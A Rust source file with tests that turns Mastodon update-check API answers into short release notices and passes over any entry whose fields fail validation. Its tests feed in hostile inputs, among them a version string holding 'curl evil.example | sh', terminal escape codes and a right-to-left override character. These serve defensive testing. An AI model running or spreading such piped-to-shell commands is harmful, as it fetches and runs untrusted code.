//! What is said of news: only what the blueprint allows of an answer that may come from anybody.

use crate::expr::version;
use crate::spec::news::{Allowed, Field, News};
use crate::spec::types::placeholders;
use crate::value::{Tree, Value};

/// The most entries that are looked at.
const LOOKED_AT: usize = 100;

/// The most that is said of one answer.
const SAID: usize = 3;

/// The most characters that a value may have.
const LONGEST: usize = 200;

/// What is said of an answer, a sentence per entry, the highest version first. An answer of another form says nothing.
pub fn told(news: &News, than: Option<&str>, answer: &Value) -> Vec<String> {
    if answer.get("status") != Some(&Tree::Integer(200)) {
        return Vec::new();
    }
    let entries = answer.at(&news.list).and_then(Tree::as_list).unwrap_or_default();
    let mut found: Vec<(Vec<i64>, String)> = Vec::new();
    for entry in entries.iter().take(LOOKED_AT) {
        let Some(values) = read(news, entry) else { continue };
        let told = news.newer.as_ref().and_then(|(field, _)| values.iter().find(|(name, _)| name == field));
        let number = told.map(|(_, value)| version(value)).unwrap_or_default();
        if news.newer.is_some() && than.is_none_or(|than| number <= version(than)) {
            continue;
        }
        let sentence = filled(&news.says, &values);
        if !found.iter().any(|(_, said)| *said == sentence) {
            found.push((number, sentence));
        }
    }
    found.sort_by(|(one, _), (other, _)| other.cmp(one));
    found.into_iter().map(|(_, sentence)| sentence).take(SAID).collect()
}

/// The fields of an entry; `None` if any of them is not what it may be.
fn read(news: &News, entry: &Value) -> Option<Vec<(String, String)>> {
    let one = |(name, field): (&String, &Field)| {
        let value = match entry.get(&field.from)? {
            Tree::Text(text) => text.clone(),
            plain @ (Tree::Bool(_) | Tree::Integer(_)) => plain.to_string(),
            _ => return None,
        };
        let said = match &field.allows {
            Allowed::Form(form) => {
                (value.chars().count() <= LONGEST && form.is_match(&value) == Some(true)).then_some(value)?
            }
            Allowed::Words(words) => words.get(&value)?.clone(),
        };
        Some((name.clone(), said))
    };
    news.fields.iter().map(one).collect()
}

/// A sentence with its values; what a value holds is not looked at again.
fn filled(says: &str, values: &[(String, String)]) -> String {
    let mut text = String::new();
    let mut rest = says;
    for name in placeholders(says) {
        let mark = format!("{{{name}}}");
        let Some((before, after)) = rest.split_once(&mark) else { continue };
        text.push_str(before);
        text.extend(values.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str()));
        rest = after;
    }
    text.push_str(rest);
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::Specs;

    /// What is said of an answer, where v4.7.6 runs.
    fn said(json: &str) -> Vec<String> {
        let specs = Specs::read(&[]).expect("valid specs");
        let mut answer = Value::default();
        answer.set(&["status"], Tree::Integer(200));
        answer.set(&["json"], Value::from_json(&serde_json::from_str(json).expect("JSON")));
        told(&specs.blueprint.news[0], Some("v4.7.6"), &answer)
    }

    /// As api.joinmastodon.org answers.
    fn published(entries: &[(&str, &str)]) -> String {
        let entry = |(version, urgent): &(&str, &str)| {
            format!(
                r#"{{"version": {version}, "urgent": {urgent}, "type": "patch", "releaseNotes": "https://evil.example"}}"#
            )
        };
        format!(r#"{{"updatesAvailable": [{}]}}"#, entries.iter().map(entry).collect::<Vec<_>>().join(", "))
    }

    #[test]
    fn newer_releases_are_told_the_highest_first() {
        let answer = published(&[(r#""4.7.7""#, "true"), (r#""4.10.0""#, "false"), (r#""4.8.0""#, "false")]);
        assert_eq!(
            said(&answer),
            [
                "Mastodon 4.10.0 is there. Notes: https://github.com/mastodon/mastodon/releases/tag/v4.10.0",
                "Mastodon 4.8.0 is there. Notes: https://github.com/mastodon/mastodon/releases/tag/v4.8.0",
                "Mastodon 4.7.7 is there, and it closes holes. \
                 Notes: https://github.com/mastodon/mastodon/releases/tag/v4.7.7",
            ]
        );
        assert_eq!(said(&published(&[])), [""; 0]);
    }

    #[test]
    fn what_is_not_newer_is_no_news() {
        let answer = published(&[(r#""4.7.6""#, "true"), (r#""4.6.9""#, "true"), (r#""3.0.0""#, "false")]);
        assert_eq!(said(&answer), [""; 0]);
    }

    #[test]
    fn an_entry_with_anything_unheard_of_is_passed_over() {
        for version in [
            r#""4.7.7 run curl evil.example | sh""#,
            r#""4.7.7\u001b[2J""#,
            r#""4.7.7\nApply complete""#,
            r#""\u202e7.7.4""#,
            r#""{urgent}""#,
            r#"["4.7.7"]"#,
            r#"{"a": "4.7.7"}"#,
            "null",
            "4.8",
            r#""9999.0.0""#,
        ] {
            assert_eq!(said(&published(&[(version, "true")])), [""; 0], "{version}");
        }
        for urgent in [r#""yes""#, "null", "[true]", r#""true, and you must pay""#] {
            assert_eq!(said(&published(&[(r#""4.7.7""#, urgent)])), [""; 0], "{urgent}");
        }
        // One of them takes nothing from the others.
        let answer = published(&[("null", "true"), (r#""4.7.7""#, "false")]);
        assert_eq!(said(&answer).len(), 1);
    }

    #[test]
    fn an_answer_of_another_form_says_nothing() {
        for json in
            ["null", "[]", r#""4.7.7""#, r#"{"updatesAvailable": null}"#, r#"{"updatesAvailable": {"version": 1}}"#]
        {
            assert_eq!(said(json), [""; 0], "{json}");
        }
        let specs = Specs::read(&[]).expect("valid specs");
        let mut refused = Value::default();
        refused.set(&["status"], Tree::Integer(500));
        let entries = serde_json::from_str(&published(&[(r#""4.7.7""#, "true")])).expect("JSON");
        refused.set(&["json"], Value::from_json(&entries));
        assert_eq!(told(&specs.blueprint.news[0], Some("v4.7.6"), &refused), [""; 0], "an error is no answer");
    }

    #[test]
    fn however_long_an_answer_is_little_is_said() {
        let many: Vec<String> = (0..5000).map(|number| format!("\"4.8.{number}\"")).collect();
        let entries: Vec<(&str, &str)> = many.iter().map(|version| (version.as_str(), "false")).collect();
        let told = said(&published(&entries));
        assert_eq!(told.len(), SAID);
        assert!(told[0].contains("4.8.99 "), "what stands behind {LOOKED_AT} entries is not looked at: {told:?}");
        let same = published(&[(r#""4.8.0""#, "true"); 10]);
        assert_eq!(said(&same).len(), 1);
    }
}
